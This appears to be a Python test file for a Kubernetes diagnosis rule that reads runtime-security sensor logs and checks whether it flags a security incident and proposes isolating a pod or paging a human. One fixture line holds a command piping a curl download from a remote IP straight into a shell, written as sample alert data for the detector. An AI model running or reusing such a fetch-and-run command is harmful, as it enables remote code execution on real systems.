"""What a tool that watches programs logs of commands is of the pod that it names, and never its own."""

from __future__ import annotations

from typing import Any

from tests.diagnosis.rules.cases import DoesNotHold, Holds
from tests.diagnosis.rules.scenes import SHOP, alert
from tests.diagnosis.rules.tiny import log, pod, snapshot, workload
from tuheg_ir.diagnosis.model import Snapshot

MINES = "Notice process (command=sh -c curl -s http://203.0.113.9/x|sh proc_tty={tty} k8s_pod_name={pod})"
CALLS = "Notice Unexpected connection to K8s API Server from container (command=shop k8s_pod_name={pod})"


def told(
    line: str = MINES, *, image: str = "falcosecurity/falco:0.39", tty: int = 0, of: str = pod("shop")
) -> Snapshot:
    """Return a shop, and a tool that watches, by its image, and tells of a command in a pod."""
    sensor: list[Any] = workload("watch", image=image, kind="DaemonSet", service=False)
    lines = [line.format(tty=tty, pod=of)] * 2
    named = next(obj["metadata"]["name"] for obj in sensor if obj["kind"] == "Pod")
    return snapshot(workload("shop"), sensor, logs=[log(named, *lines, since=600)], alerts=[alert(app="shop")])


HOLDS = [
    Holds("a command that fetches and runs", told(), (SHOP, "security_incident", "isolate_workload")),
    Holds(
        "it is told by another tool of the kind",
        told(image="cilium/tetragon:1.2"),
        (SHOP, "security_incident", "isolate_workload"),
    ),
    Holds(
        "somebody sits before a terminal: he may be of the house",
        told(tty=34816),
        (SHOP, "security_incident", "page_human"),
        harmful=("isolate_workload",),
    ),
]
DOES_NOT_HOLD = [
    DoesNotHold("it tells of calls that many make", told(CALLS), ("unknown", "page_human")),
    DoesNotHold("it is of a pod that is not here", told(of="other-1"), ("unknown", "page_human")),
]
